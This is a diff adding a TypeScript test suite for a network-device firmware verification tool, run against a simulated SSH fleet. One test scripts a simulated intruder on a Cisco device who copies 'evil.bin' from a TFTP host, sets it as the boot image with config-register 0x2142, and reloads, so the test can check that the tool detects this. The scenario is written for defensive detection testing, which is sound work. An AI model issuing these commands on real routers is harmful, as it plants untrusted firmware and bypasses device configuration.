@@ -1,0 +1,111 @@
+import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import type { DeviceState } from '../model/state.js';
+import { startFleet, SIM_PASSWORD, type Fleet, type Misbehaviour } from '../sim/index.js';
+import { syntheticFleet } from '../sim/synthetic.js';
+import { collect } from './index.js';
+
+const EXPECTED: Record<Misbehaviour, DeviceState['reason'] | 'tampered'> = {
+  hang: 'timeout',
+  'hang-after-banner': 'timeout',
+  'drop-mid-output': 'unreachable',
+  garbage: 'unparsable',
+  'wrong-host-key': 'host-key-mismatch',
+  'refuse-auth': 'auth-failed',
+  'tampered-image': 'tampered',
+  slow: 'timeout',
+  'huge-output': 'unparsable',
+};
+
+const dotted = (v: string | undefined): string | undefined => v?.replace(/\b0+(?=\d)/g, '');
+
+describe('collect against the simulator', () => {
+  let dir: string;
+  let fleet: Fleet;
+  const { devices, catalog } = syntheticFleet(15);
+  const env = { IMAGEGATE_SSH_PASSWORD: SIM_PASSWORD };
+
+  beforeAll(async () => {
+    dir = mkdtempSync(join(tmpdir(), 'ig-collect-'));
+    fleet = await startFleet(devices, catalog, { logDir: dir, slowMs: 2500, hugeOutputBytes: 5 * 1024 * 1024 });
+  });
+  afterAll(async () => {
+    await fleet.close();
+    rmSync(dir, { recursive: true, force: true });
+  });
+
+  it('collects every platform, and reports each misbehaving device with its reason while the rest complete', async () => {
+    const modes = Object.keys(EXPECTED) as Misbehaviour[];
+    const bad = new Map<string, Misbehaviour>();
+    modes.forEach((mode, i) => {
+      const name = devices[5 + i]?.name ?? '';
+      fleet.device(name).misbehave(mode);
+      bad.set(name, mode);
+    });
+    const progress: number[] = [];
+    const state = await collect(devices, catalog, {
+      concurrency: 20,
+      timeoutSeconds: 1.5,
+      sshConfig: fleet.sshConfig(),
+      env,
+      onProgress: (done) => progress.push(done),
+    });
+    expect(state.version).toBe(1);
+    expect(state.devices.map((d) => d.device)).toEqual(devices.map((d) => d.name));
+    expect(progress).toHaveLength(devices.length);
+    for (const d of state.devices) {
+      const mode = bad.get(d.device);
+      const image = catalog.images.find((i) => i.platform === d.platform);
+      if (mode === undefined || mode === 'tampered-image') {
+        expect({ device: d.device, status: d.status, detail: d.detail }).toEqual({ device: d.device, status: 'ok', detail: undefined });
+        // IOS-XE prints 17.12.04 and 17.12.4 in the same output; the parser keeps the second
+        expect(dotted(d.facts.version?.version)).toBe(dotted(image?.version));
+        expect(d.expectedFile).toBe(image?.file);
+        expect(d.facts.files?.files.map((f) => f.name)).toContain(image?.file);
+        if (d.platform === 'juniper_junos') {
+          expect(d.unsupported).toEqual(['boot']);
+          expect(d.facts.hash).toEqual({ file: image?.file, algorithm: 'sha256', digest: mode ? expect.not.stringMatching(image?.sha256 ?? '') : image?.sha256 });
+        } else {
+          expect(d.facts.boot?.boot.length).toBeGreaterThan(0);
+          expect(d.facts.hash?.algorithm).toBe('sha512');
+          if (mode) expect(d.facts.hash?.digest).not.toBe(image?.sha512);
+          else expect(d.facts.hash?.digest).toBe(image?.sha512);
+        }
+      } else {
+        expect({ device: d.device, mode, status: d.status, reason: d.reason }).toEqual({ device: d.device, mode, status: 'unverified', reason: EXPECTED[mode] });
+        if (mode === 'wrong-host-key') expect(d.presentedHostKey).toMatch(/^SHA256:/);
+      }
+    }
+    for (const name of bad.keys()) fleet.device(name).misbehave(null);
+  });
+
+  it('records no credentials when the environment has none, and never prints the password', async () => {
+    const state = await collect(devices.slice(0, 2), catalog, { sshConfig: fleet.sshConfig(), env: {}, timeoutSeconds: 2 });
+    expect(state.devices.map((d) => d.reason)).toEqual(['no-credentials', 'no-credentials']);
+    const wrong = await collect(devices.slice(0, 1), catalog, { sshConfig: fleet.sshConfig(), env: { IMAGEGATE_SSH_PASSWORD: 'hunter2-secret' }, timeoutSeconds: 2 });
+    expect(wrong.devices[0]?.reason).toBe('auth-failed');
+    expect(JSON.stringify(wrong)).not.toContain('hunter2-secret');
+  });
+
+  it('reads the state an operator changed: copy, boot system, config-register, reload', async () => {
+    const ios = devices.find((d) => d.platform === 'cisco_xe')?.name ?? '';
+    fleet.run(ios, 'mallory', 'copy tftp://10.9.9.9/evil.bin flash:');
+    fleet.run(ios, 'mallory', 'configure terminal\nboot system flash:evil.bin\nconfig-register 0x2142\nend');
+    const before = await collect(devices.filter((d) => d.name === ios), catalog, { sshConfig: fleet.sshConfig(), env, timeoutSeconds: 3 });
+    expect(before.devices[0]?.facts.boot?.boot).toEqual(['flash:evil.bin']);
+    expect(before.devices[0]?.facts.boot?.nextConfigRegister ?? before.devices[0]?.facts.boot?.configRegister).toBe('0x2142');
+    expect(before.devices[0]?.facts.files?.files.map((f) => f.name)).toContain('evil.bin');
+    fleet.run(ios, 'mallory', 'reload');
+    const after = await collect(devices.filter((d) => d.name === ios), catalog, { sshConfig: fleet.sshConfig(), env, timeoutSeconds: 3 });
+    expect(after.devices[0]?.facts.version?.image).toBe('flash:evil.bin');
+    expect(after.devices[0]?.facts.version?.uptimeSeconds).toBeLessThan(120);
+    expect(after.devices[0]?.facts.boot?.configRegister).toBe('0x2142');
+    const syslog = readFileSync(fleet.logs.syslog, 'utf8');
+    expect(syslog).toMatch(/ 10\.0\.0\.1 \d+: \w{3} [ \d]\d \d\d:\d\d:\d\d\.\d{3} UTC: %PARSER-5-CFGLOG_LOGGEDCMD: User:mallory  logged command:boot system flash:evil\.bin\n/);
+    expect(syslog).toContain('%SYS-5-RELOAD: Reload requested by mallory on vty');
+    expect(syslog).toContain('%SYS-5-RESTART: System restarted');
+    expect(readFileSync(fleet.logs.tftp, 'utf8')).toMatch(/^\w{3} [ \d]\d \d\d:\d\d:\d\d tftp in\.tftpd\[\d+\]: RRQ from 10\.0\.0\.1 filename evil\.bin$/m);
+    expect(readFileSync(fleet.logs.tacacs, 'utf8')).toMatch(/\t10\.0\.0\.1\tmallory\tvty\d+\t10\.1\.1\.10\tstop\ttask_id=\d+\ttimezone=UTC\tservice=shell\tpriv-lvl=15\tcmd=copy tftp:\/\/10\.9\.9\.9\/evil\.bin flash: <cr>\n/);
+  });
+});
